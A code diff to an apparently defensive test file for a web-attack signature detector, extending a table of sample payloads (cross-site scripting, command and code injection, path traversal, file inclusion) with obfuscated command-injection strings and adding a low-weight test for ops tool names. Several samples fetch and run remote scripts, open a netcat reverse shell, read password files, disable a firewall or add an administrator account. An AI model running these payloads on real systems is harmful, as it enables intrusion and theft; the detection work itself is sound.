@@ -17,7 +17,8 @@ const ATTACKS: Readonly<Partial<Record<AttackFamily, readonly string[]>>> = {
     '<script>alert(7)</script>', '<img src=x onerror=alert(7)>', '<svg/onload=confirm(7)>', '" onmouseover="prompt(7)', "';alert(7)//", 'javascript:alert(7)', '<a href="jav&#x09;ascript:alert(7)">x</a>', '<iframe src="//elsewhere.example">', '<body onload=a()>', '<details open ontoggle=a(7)>', '</script><b>', '<div style="width: expression(a(7))">',
     '<math><a xlink:href="javascript:a(7)">', '<input autofocus onfocus=a(7)>', '<object data="data:text/html;base64,x">', 'self["al"+"ert"](7)', '[].filter.constructor("a(7)")()', '<meta http-equiv="refresh" content="0;url=javascript:a(7)">', 'document.cookie', '<base href="//elsewhere.example/">', '<x onclick=a(7)>', '<form><button formaction=javascript:a(7)>',
   ],
-  command: ['; cat /etc/passwd', '| id', '&& whoami', '`id`', '$(id)', 'x; ls -la', 'a|/usr/bin/id', '\nwget http://elsewhere.example/x.sh', ';c\'a\'t /etc/hosts', 'x & ping -c 4 192.0.2.7', '() { :;}; /bin/bash -c id', 'cat${IFS}/etc/passwd', 'x && powershell -enc aQBkAA==', '|| curl http://192.0.2.7/x | sh', '; nc -e /bin/sh 192.0.2.7 4444', '& dir c:\\'],
+  command: ['; cat /etc/passwd', '| id', '&& whoami', '`id`', '$(id)', 'x; ls -la', 'a|/usr/bin/id', '\nwget http://elsewhere.example/x.sh', ';c\'a\'t /etc/hosts', 'x & ping -c 4 192.0.2.7', '() { :;}; /bin/bash -c id', 'cat${IFS}/etc/passwd', 'x && powershell -enc aQBkAA==', '|| curl http://192.0.2.7/x | sh', '; nc -e /bin/sh 192.0.2.7 4444', '& dir c:\\',
+    'cd /;cd srv;cat shadow', ';chmod +x lamp.pl', ';"wget" http://elsewhere.example', "w''get http://elsewhere.example", 'w\\get http://elsewhere.example', 'h$@ostname -f', 'hea$*d /etc/hosts', '{c""at,/etc/hosts}', '; cat$z /etc$z/hosts$z', '7;.shell id', '| netsh advfirewall set allprofiles state off', '| reg query "HKCU\\Software"', 'net localgroup administrators lamp /add', 'type d:\\lamps.txt', 'x;whoami\\n', '\\n/usr/bin/env;', "perl -e 'print 7'", "$'\\143\\141\\164'", '; sh$z -c id'],
   code: ['<?php system($_GET["c"]); ?>', 'phpinfo();system("id")', '<!--#exec cmd="id" -->', 'require("child_process").exec("id")', '__import__("os").system("id")', 'T(java.lang.Runtime).getRuntime().exec("id")', 'eval(base64_decode("aWQ="))', '<% eval request("c") %>', 'class.module.classLoader.resources', 'Kernel.exec("id")'],
   pathTraversal: ['../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/shadow', '....//....//etc/hosts', '/var/www/../../etc/passwd', '.git/config', '/.env', 'WEB-INF/web.xml', 'c:\\boot.ini', '..;/manager', '/proc/self/environ', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..%c0%af..%c0%afetc/passwd', '/static/..'],
   fileInclusion: ['php://filter/convert.base64-encode/resource=index', 'file:///etc/hosts', 'expect://id', 'http://192.0.2.7/shell.txt', 'data://text/plain;base64,x', 'http://elsewhere.example/x.txt?'],
@@ -42,6 +43,13 @@ describe('ENG-04 signatures of each family', () => {
       assert.deepEqual(missed, []);
     });
   }
+
+  test('say that a tool of those who run systems is named, which alone is little', () => {
+    for (const value of ['ansible-galaxy install lamp', 'kubectl get pods', 'terraform destroy', 'time; docker-compose', 'net view', 'which socat']) {
+      const signatures = findSignatures(value, { location: 'query', name: 'value' });
+      assert.ok(signatures.some(({ family }) => family === 'command') && totalWeight(signatures) < SUSPECT_WEIGHT, value);
+    }
+  });
 
   test('have an OWASP class and a known weakness', () => {
     for (const { cweId, owasp } of Object.values(ATTACK_FAMILIES)) assert.ok(cweId in WEAKNESSES && /^API(?:10|[1-9]):2023$/.test(owasp), cweId);
